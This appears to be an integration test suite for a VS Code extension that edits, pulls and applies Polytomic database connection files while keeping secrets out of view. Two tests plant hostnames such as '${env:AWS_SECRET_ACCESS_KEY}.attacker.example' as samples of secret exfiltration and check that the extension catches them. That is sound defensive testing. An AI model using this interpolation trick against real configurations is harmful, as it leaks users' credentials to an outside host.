// Nothing the user typed is lost or silently skipped, in a real VS Code against the emulator, doing what a user does:
// Pull into a file with unsaved edits asks first and is one undo step; Update and Apply save before they send; a
// secret changed since the last apply is a change to apply, and "not known" after a Pull; Apply shows its diff
// without the secret values and asks for a missing one only when sending; placeholders are named, never masked, and
// reading them into a send is agreed to first (the attack of a file from elsewhere); Pull does not copy text that
// reads like a placeholder from the API. The tests build on each other, in order.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { PolytomicExtensionApi } from '../../../client/src/extensionApi';
import { diagnosticsWhere, emulator, eventually, openInEditor, polytomic, readWorkspaceFile, ScriptedPrompts, workspaceUri, writeWorkspaceFile } from './polytomicSupport';

const FILE = 'lost/orders-replica.polytomic.json';
const ENV = 'POSTGRESQL_PASSWORD';
const FIRST_PASSWORD = 'lost-pw-1-3f9a';
const SECOND_PASSWORD = 'lost-pw-2-81c0';
const SESSION_PASSWORD = 'lost-pw-session-77d2';

async function replaceInDocument(document: vscode.TextDocument, from: string, to: string): Promise<void> {
  const start = document.getText().indexOf(from);
  assert.ok(start >= 0, `"${from}" is not in ${document.uri.path}`);
  const edit = new vscode.WorkspaceEdit();
  edit.replace(document.uri, new vscode.Range(document.positionAt(start), document.positionAt(start + from.length)), to);
  assert.ok(await vscode.workspace.applyEdit(edit));
}

let currentId = '';
function liveSidesOf(): string[] {
  return liveSides(currentId);
}

function liveSides(id: string): string[] {
  return vscode.workspace.textDocuments.filter((d) => d.uri.scheme === 'polytomic-live' && d.uri.path.startsWith(`/${id}/`)).map((d) => d.getText());
}

/** Both sides of the open diff once each passes `check` (the republished text has arrived). */
function diffShowing(check: (sides: string[]) => boolean): Promise<string[]> {
  return eventually(() => {
    const sides = liveSidesOf();
    return sides.length === 2 && check(sides) ? sides : undefined;
  }, 'the diff of this Apply');
}

function openDiffTabs(): vscode.TabInputTextDiff[] {
  return vscode.window.tabGroups.all.flatMap((g) => g.tabs).map((t) => t.input).filter((i): i is vscode.TabInputTextDiff => i instanceof vscode.TabInputTextDiff);
}

describe('nothing the user typed is lost or silently skipped', () => {
  let api: PolytomicExtensionApi;
  let prompts: ScriptedPrompts;
  let id: string;
  let uri: vscode.Uri;

  before(async () => {
    api = await polytomic();
    delete process.env[ENV];
    const created = await emulator('POST', '/api/connections', {
      name: 'Orders Replica',
      type: 'postgresql',
      configuration: { hostname: 'replica.example.com', port: 5432, database: 'orders', username: 'app', password: FIRST_PASSWORD },
      validate: false,
    });
    assert.equal(created.status, 200, JSON.stringify(created.body));
    id = created.body.data.id;
    currentId = id;
    uri = workspaceUri(FILE);
  });

  beforeEach(() => {
    prompts = new ScriptedPrompts();
    prompts.install(api);
  });

  after(() => {
    delete process.env[ENV];
    api.resetPrompts();
  });

  it('Pull writes the connection with the one placeholder naming rule (type and field)', async () => {
    prompts.saveAnswer = () => uri;
    assert.equal((await vscode.commands.executeCommand<vscode.Uri>('polytomic.pullConnection', id))?.toString(), uri.toString());
    const text = await readWorkspaceFile(uri);
    assert.match(text, /"password": "\$\{env:POSTGRESQL_PASSWORD\}"/, 'the same name New Connection File and the quick fix use');
    assert.ok(!text.includes('organization_id'), 'organization_id stays out of a pulled file');
  });

  it('point 1: Pull into a file with unsaved edits asks first; Cancel keeps them', async () => {
    const doc = await openInEditor(uri);
    await replaceInDocument(doc, '"database": "orders"', '"database": "orders_v2"');
    const typed = doc.getText();
    prompts.chooseAnswer = () => undefined;
    assert.equal(await vscode.commands.executeCommand('polytomic.pullConnection', id), undefined);
    const [question] = prompts.asked;
    assert.equal(question?.kind, 'chooseModal');
    assert.match(question?.text ?? '', /orders-replica\.polytomic\.json has unsaved changes/);
    assert.match(question?.text ?? '', /\[Show Diff\|Replace\]/, 'Show Diff (not Replace) is the default button');
    assert.equal(doc.getText(), typed, 'the unsaved edit is still there');
    assert.equal(doc.isDirty, true);
  });

  it('point 1: Show Diff compares first without covering the diff; Replace is one undo step', async () => {
    const doc = await openInEditor(uri);
    const typed = doc.getText();
    let diffOpenWhenAsked = false;
    prompts.chooseAnswer = () => 'Show Diff';
    prompts.notifyAnswer = (message, actions) => {
      if (!actions.includes('Replace')) return undefined;
      diffOpenWhenAsked = openDiffTabs().some((d) => d.original.toString() === doc.uri.toString() && d.modified.scheme === 'polytomic-live');
      return 'Replace';
    };
    assert.equal((await vscode.commands.executeCommand<vscode.Uri>('polytomic.pullConnection', id))?.toString(), uri.toString());
    assert.ok(diffOpenWhenAsked, 'the diff of the unsaved text and the pulled one was open when asked');
    assert.ok(prompts.notifications.some((n) => n.kind === 'warning' && /Replace the unsaved changes/.test(n.message)), 'the second question is a notification');
    assert.match(doc.getText(), /"database": "orders"/);
    assert.equal(doc.isDirty, false);
    await vscode.window.showTextDocument(doc);
    await vscode.commands.executeCommand('undo');
    assert.equal(doc.getText(), typed, 'one Undo brings back exactly what was typed');
    await vscode.commands.executeCommand('redo');
    await doc.save();
  });

  it('point 3: right after Pull, Apply says the secret is "not known", not "unchanged"', async () => {
    process.env[ENV] = FIRST_PASSWORD;
    prompts.consentAnswer = () => {
      throw new Error('nothing is sent, so nothing is asked');
    };
    assert.equal(await vscode.commands.executeCommand('polytomic.applyConnection', uri), 'unchanged');
    const said = prompts.lastNotification();
    assert.match(said?.message ?? '', /Nothing to apply.*Not known: password: not known: not sent from this workspace yet/);
    assert.deepEqual(said?.actions, ['Update']);
  });

  it('trust 2: the first send lists the placeholders it reads and where they go, and asks once', async () => {
    let asked = '';
    prompts.consentAnswer = (message, detail) => {
      asked = `${message}\n${detail}`;
      return true;
    };
    assert.equal(await vscode.commands.executeCommand('polytomic.updateConnection', uri), id);
    assert.match(asked, /^Send environment variables to emulator \(http:\/\/[^)]+\)\?/);
    assert.match(asked, /\$\{env:POSTGRESQL_PASSWORD\} → configuration\.password/);
    prompts.consentAnswer = () => {
      throw new Error('asked a second time');
    };
    assert.equal(await vscode.commands.executeCommand('polytomic.updateConnection', uri), id);
  });

  it('point 2: Update saves the file first and sends what was saved', async () => {
    const doc = await openInEditor(uri);
    await replaceInDocument(doc, '"port": 5432', '"port": 6432');
    assert.equal(doc.isDirty, true);
    assert.equal(await vscode.commands.executeCommand('polytomic.updateConnection', uri), id);
    assert.equal(doc.isDirty, false, 'the file was saved');
    assert.match(await readWorkspaceFile(uri), /"port": 6432/, 'the disk has what was sent');
    assert.equal((await emulator('GET', `/api/connections/${id}`)).body.data.configuration.port, 6432);
  });

  it('point 2: Apply saves the file first too', async () => {
    const doc = await openInEditor(uri);
    await replaceInDocument(doc, '"port": 6432', '"port": 7432');
    prompts.notifyAnswer = (_m, actions) => (actions.includes('Apply') ? 'Apply' : undefined);
    assert.equal(await vscode.commands.executeCommand('polytomic.applyConnection', uri), 'updated');
    assert.equal(doc.isDirty, false);
    assert.match(await readWorkspaceFile(uri), /"port": 7432/);
    assert.equal((await emulator('GET', `/api/connections/${id}`)).body.data.configuration.port, 7432);
  });

  it('point 3: a secret changed since the last apply is a change to apply, shown in the diff', async () => {
    assert.equal(await vscode.commands.executeCommand('polytomic.applyConnection', uri), 'unchanged', 'nothing changed yet');
    process.env[ENV] = SECOND_PASSWORD;
    const marked = /"password": "(\$\{env:POSTGRESQL_PASSWORD\}|\*{8})",? \/\/ changed since the last apply/;
    let sides: string[] = [];
    let question = '';
    prompts.notifyAnswer = ((message: string, actions: string[]) => {
      if (!actions.includes('Apply')) return undefined;
      question = message;
      // VS Code re-reads a republished side of the diff asynchronously: wait for both to show this Apply.
      return diffShowing((all) => all.every((s) => marked.test(s))).then((shown) => ((sides = shown), 'Apply'));
    }) as never;
    assert.equal(await vscode.commands.executeCommand('polytomic.applyConnection', uri), 'updated');
    assert.match(question, /Changes: password: changed since the last apply/);
    assert.equal(sides.length, 2);
    assert.ok(sides.every((s) => !s.includes(SECOND_PASSWORD) && !s.includes(FIRST_PASSWORD)));
    assert.equal(await vscode.commands.executeCommand('polytomic.applyConnection', uri), 'unchanged', 'and unchanged once applied');
  });

  it('points 4 and 5: with the variable unset, Apply still shows the diff, and asks for the value only when sending', async () => {
    delete process.env[ENV];
    const doc = await openInEditor(uri);
    await replaceInDocument(doc, '"port": 7432', '"port": 8432');
    const marked = /"password": "(\$\{env:POSTGRESQL_PASSWORD\}|\*{8})",? \/\/ not set yet: asked for when sending/;
    let sides: string[] = [];
    prompts.notifyAnswer = ((_m: string, actions: string[]) => {
      if (!actions.includes('Apply')) return undefined;
      return diffShowing((all) => all.every((s) => marked.test(s))).then((shown) => ((sides = shown), 'Apply'));
    }) as never;
    prompts.inputAnswers = [SESSION_PASSWORD];
    assert.equal(await vscode.commands.executeCommand('polytomic.applyConnection', uri), 'updated');
    assert.ok(sides.some((s) => s.includes('"password": "${env:POSTGRESQL_PASSWORD}" // not set yet')), sides.join('\n---\n'));
    const input = prompts.asked.find((p) => p.kind === 'input');
    assert.match(input?.text ?? '', /POSTGRESQL_PASSWORD is not set in the environment: the value is used for this VS Code session only/);
    // The value typed in serves this session: Update sends without asking again.
    assert.equal(await vscode.commands.executeCommand('polytomic.updateConnection', uri), id);
  });

  it('point 5: a missing ${env:} in Update offers "Use for This Session", and Set Secret offers the file\'s names', async () => {
    const file = await writeWorkspaceFile(
      'lost/missing.polytomic.json',
      '{\n  "name": "Lost Missing",\n  "type": "postgresql",\n  "configuration": {\n    "hostname": "m.example.com",\n    "port": 5432,\n    "database": "d",\n    "username": "u",\n    "password": "${env:LOST_UNSET_PASSWORD}",\n    "ssh_private_key": "${secret:LOST_SSH_KEY}"\n  }\n}\n',
    );
    assert.equal(await vscode.commands.executeCommand('polytomic.createConnection', file), undefined);
    const missing = prompts.lastNotification();
    assert.match(missing?.message ?? '', /environment variable LOST_UNSET_PASSWORD \(for configuration\.password\)/);
    assert.deepEqual(missing?.actions, ['Set Secret', 'Use for This Session']);

    await openInEditor(file);
    let offered: readonly vscode.QuickPickItem[] = [];
    prompts.pickAnswers = [(items) => ((offered = items), items[0])];
    prompts.inputAnswers = ['lost-ssh-key-value'];
    await vscode.commands.executeCommand('polytomic.setSecret');
    assert.deepEqual(offered.map((i) => [i.label, i.description]).slice(0, 1), [['LOST_SSH_KEY', 'missing']]);
    prompts.pickAnswers = [(items) => ((offered = items), undefined)];
    await vscode.commands.executeCommand('polytomic.setSecret');
    assert.deepEqual(offered.map((i) => [i.label, i.description]).slice(0, 1), [['LOST_SSH_KEY', 'set']]);
  });

  it('trust 2: a file that reads ${env:...} into a hostname is named in the diff and the question, and nothing goes without a yes', async () => {
    process.env.LOST_ATTACK_SECRET = 'AKIA-lost-attack-0001';
    const doc = await openInEditor(uri);
    await replaceInDocument(doc, '"hostname": "replica.example.com"', '"hostname": "${env:LOST_ATTACK_SECRET}.attacker.example"');
    let sides: string[] = [];
    let question = '';
    prompts.notifyAnswer = ((message: string, actions: string[]) => {
      if (!actions.includes('Apply')) return undefined;
      question = message;
      return diffShowing((all) => all.some((s) => s.includes('LOST_ATTACK_SECRET'))).then((shown) => ((sides = shown), 'Apply'));
    }) as never;
    let consent = '';
    prompts.consentAnswer = (message, detail) => {
      consent = `${message}\n${detail}`;
      return false;
    };
    assert.equal(await vscode.commands.executeCommand('polytomic.applyConnection', uri), undefined, 'refused, so not applied');
    assert.ok(sides.some((s) => s.includes('"hostname": "${env:LOST_ATTACK_SECRET}.attacker.example"')), 'named in the diff');
    assert.ok(sides.every((s) => !s.includes('AKIA-lost-attack') && !/"hostname": "\*+/.test(s)), 'never its value, never masked');
    assert.match(question, /Reads when sending: .*\$\{env:LOST_ATTACK_SECRET\} \(configuration\.hostname\)/);
    assert.match(consent, /\$\{env:LOST_ATTACK_SECRET\} → configuration\.hostname/);
    assert.doesNotMatch(consent, /POSTGRESQL_PASSWORD/, 'only what was not agreed to before');
    assert.match(prompts.lastNotification()?.message ?? '', /Nothing was sent/);
    assert.equal((await emulator('GET', `/api/connections/${id}`)).body.data.configuration.hostname, 'replica.example.com');
    await replaceInDocument(doc, '"hostname": "${env:LOST_ATTACK_SECRET}.attacker.example"', '"hostname": "replica.example.com"');
    await doc.save();
    delete process.env.LOST_ATTACK_SECRET;
  });

  it('trust 2: Pull does not copy a placeholder-looking value from the API into the file', async () => {
    const planted = await emulator('POST', '/api/connections', {
      name: 'Lost Planted',
      type: 'postgresql',
      configuration: { hostname: '${env:AWS_SECRET_ACCESS_KEY}.attacker.example', port: 5432, database: 'd', username: 'u', password: 'x' },
      validate: false,
    });
    assert.equal(planted.status, 200, JSON.stringify(planted.body));
    const target = workspaceUri('lost/planted.polytomic.json');
    prompts.saveAnswer = () => target;
    await vscode.commands.executeCommand('polytomic.pullConnection', planted.body.data.id);
    const text = await readWorkspaceFile(target);
    assert.ok(!text.includes('AWS_SECRET_ACCESS_KEY'), text);
    const said = prompts.lastNotification();
    assert.equal(said?.kind, 'warning');
    assert.match(said?.message ?? '', /Not copied: configuration\.hostname/);
  });

  it('point 8: a failed Test says what Polytomic said about the upstream and marks the field until it is edited', async () => {
    const file = await writeWorkspaceFile(
      'lost/unreachable.polytomic.json',
      '{\n  "name": "Lost Unreachable",\n  "type": "postgresql",\n  "configuration": {\n    "hostname": "db.unreachable.example",\n    "port": 5432,\n    "database": "d",\n    "username": "u",\n    "password": "${env:POSTGRESQL_PASSWORD}"\n  }\n}\n',
    );
    const doc = await openInEditor(file);
    const result = await vscode.commands.executeCommand<{ ok: boolean; message: string; fields?: string[] }>('polytomic.testConnection', file);
    assert.equal(result?.ok, false);
    assert.match(result?.message ?? '', /Connection test of "Lost Unreachable" failed: Polytomic says could not reach `hostname` \(db\.unreachable\.example\)/);
    assert.doesNotMatch(result?.message ?? '', /rejected the request|\(400\)|Fix the request/);
    const marks = () => vscode.languages.getDiagnostics(file).filter((d) => d.source === 'polytomic test');
    const [mark] = await eventually(() => (marks().length > 0 ? marks() : undefined), 'the test mark');
    assert.equal(doc.lineAt(mark.range.start.line).text.trim(), '"hostname": "db.unreachable.example",');
    await replaceInDocument(doc, 'db.unreachable.example', 'db.example.com');
    await eventually(() => (marks().length === 0 ? true : undefined), 'the mark to go with the edit');
    await doc.save();
  });

  it('point 6 and 12: a new file uses the same placeholder name, puts the cursor on the first blank, and blanks get a warning', async () => {
    const target = workspaceUri('lost/new-postgres.polytomic.json');
    prompts.pickAnswers = [(items) => items.find((i) => i.description === 'postgresql')];
    prompts.inputAnswers = ['Lost New PG'];
    prompts.saveAnswer = () => target;
    assert.equal((await vscode.commands.executeCommand<vscode.Uri>('polytomic.newConnectionFile'))?.toString(), target.toString());
    const editor = vscode.window.activeTextEditor;
    assert.equal(editor?.document.uri.toString(), target.toString());
    const text = editor!.document.getText();
    assert.match(text, /"password": "\$\{env:POSTGRESQL_PASSWORD\}"/, 'the name Pull writes and the playground sets');
    const cursor = editor!.document.offsetAt(editor!.selection.active);
    assert.equal(text.slice(cursor - 1, cursor + 1), '""', 'the cursor is inside the first empty value');
    assert.ok(text.lastIndexOf('"configuration"', cursor) >= 0);
    const blanks = await diagnosticsWhere(target, (d) => d.some((x) => x.code === 'empty-required'));
    assert.ok(blanks.every((d) => d.code !== 'empty-required' || d.severity === vscode.DiagnosticSeverity.Warning));
  });

  it('point 5: the literal-secret quick fix moves the value to secret storage as ${secret:NAME}, never echoing it', async () => {
    const literal = 'lost-literal-pw-5e1b';
    const file = await writeWorkspaceFile(
      'lost/literal.polytomic.json',
      `{\n  "name": "Lost Literal",\n  "type": "postgresql",\n  "configuration": {\n    "hostname": "l.example.com",\n    "port": 5432,\n    "database": "d",\n    "username": "u",\n    "password": "${literal}"\n  }\n}\n`,
    );
    const doc = await openInEditor(file);
    const [diagnostic] = await diagnosticsWhere(file, (d) => d.some((x) => x.code === 'literal-secret'));
    const actions = await vscode.commands.executeCommand<vscode.CodeAction[]>('vscode.executeCodeActionProvider', file, diagnostic.range);
    const move = actions.find((a) => a.title === 'Move the literal secret to secret storage as ${secret:POSTGRESQL_PASSWORD}');
    assert.ok(move?.command, actions.map((a) => a.title).join(', '));
    assert.ok(!JSON.stringify(move).includes(literal));
    assert.equal(await vscode.commands.executeCommand(move.command.command, ...(move.command.arguments ?? [])), true);
    assert.match(doc.getText(), /"password": "\$\{secret:POSTGRESQL_PASSWORD\}"/);
    assert.ok(!doc.getText().includes(literal));
    assert.ok(prompts.notifications.every((n) => !n.message.includes(literal)));
    let offered: readonly vscode.QuickPickItem[] = [];
    prompts.pickAnswers = [(items) => ((offered = items), undefined)];
    await vscode.commands.executeCommand('polytomic.setSecret');
    assert.deepEqual(offered.map((i) => [i.label, i.description])[0], ['POSTGRESQL_PASSWORD', 'set'], 'the value is stored');
    await doc.save();
  });

  it('point 11: hover on `type` names the live schema\'s profile and its age, not a cache path', async () => {
    const doc = await openInEditor(uri);
    const at = doc.positionAt(doc.getText().indexOf('"postgresql"') + 3);
    const text = await eventually(async () => {
      const hovers = await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', doc.uri, at);
      const all = hovers.flatMap((h) => h.contents.map((c) => (typeof c === 'string' ? c : 'value' in c ? c.value : ''))).join('\n');
      return /Schema: /.test(all) ? all : undefined;
    }, 'the hover');
    assert.match(text, /Schema: the live schema of profile emulator, fetched (less than a minute|\d+ minutes?) ago\./);
    assert.ok(!/globalStorage|catalogs\//.test(text), text);
  });

  it('trust 7: the extension state holds no digest of a body that a guessed secret could be checked against', async () => {
    const state = api.stateSnapshot();
    for (const value of [FIRST_PASSWORD, SECOND_PASSWORD, SESSION_PASSWORD, 'lost-ssh-key-value']) assert.ok(!state.includes(value));
    assert.ok(!/fingerprint/i.test(state), 'fingerprints live in secret storage, not in the state');
  });
});
